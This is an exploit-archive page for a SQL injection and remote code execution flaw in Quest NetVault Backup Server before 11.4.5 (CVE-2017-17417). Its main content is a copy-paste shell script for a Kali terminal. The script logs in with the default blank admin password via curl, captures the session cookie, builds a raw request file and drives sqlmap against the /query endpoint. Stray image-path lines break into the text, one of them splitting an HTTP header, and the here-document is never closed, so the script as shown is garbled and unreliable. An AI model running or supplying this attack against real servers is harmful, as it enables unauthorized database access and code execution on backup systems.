Quest NetVault Backup Server Code Execution / SQL Injection

Quest NetVault Backup Server versions prior to 11.4.5 suffer from process manager service SQL injection and remote code execution vulnerabilities.

MD5 | 4f000d15da674df9aa20ea5e062d99c2

# Exploit Title: Quest NetVault Backup Server < 11.4.5 Process Manager Service SQL Injection Remote Code Execution Vulnerability (ZDI-17-982)
# Date: 2-21-2019
# Exploit Author: credit goes to rgod for finding the bug
# Version: Quest NetVault Backup Server <11.4.5
# CVE : CVE-2017-17417

# There is a decent description of the bug here:
# but no PoC, hence this submission. Also the description states that authentication is not required.
# I did not find the auth bypass, but the target was using default credz
# of admin and a blank password.
# "This vulnerability allows remote attackers to execute arbitrary code on vulnerable installations
# of Quest NetVault Backup. Authentication is not required to exploit this vulnerability.
# The specific flaw exists within the handling of NVBUPhaseStatus Acknowledge method requests.
# The issue results from the lack of proper validation of a
# user-supplied string before using it to construct SQL queries. An attacker can leverage this
# vulnerability to execute code in the context of the underlying database."

#Fill out the variables then copy paste everything below this line into a kali terminal

#target ip address

#target port


#password is blank by default!
cookie=$(curl -i -s -k -X $'POST' -H $'Content-Length: 109' -H $'Content-Type: application/json-rpc; charset=UTF-8' --data-binary "{\"jsonrpc\":\"2.0\",\"method\":\"Logon\",\"params\":{\"OutputFormat\":\"pretty\",\"UserName\":\"$username\",\"Password\":\"$password\"},\"id\":1}" "https://$target:$port/query" | grep SessionCookie | cut -d '"' -f4)
cat > dellSqlmap <<EOF
POST /query HTTP/1.1
Host: $target:$port
Connection: close
Content-Length: 129
Accept: application/json, text/javascript, */*; q=0.01
X-Requested-With: XMLHttpRequest
SessionCookie: $cookie
Content-Type: application/json-rpc; charset=UTF-8
Accept-Encoding: gzip, deflate
Accept-Language: en-US,en;q=0.9

sqlmap -r dellSqlmap --force-ssl --level=5 --dbms=postgresql --prefix='' --suffix='' --test-filter='AND boolean-based blind - WHERE or HAVING clause'--batch

Related Posts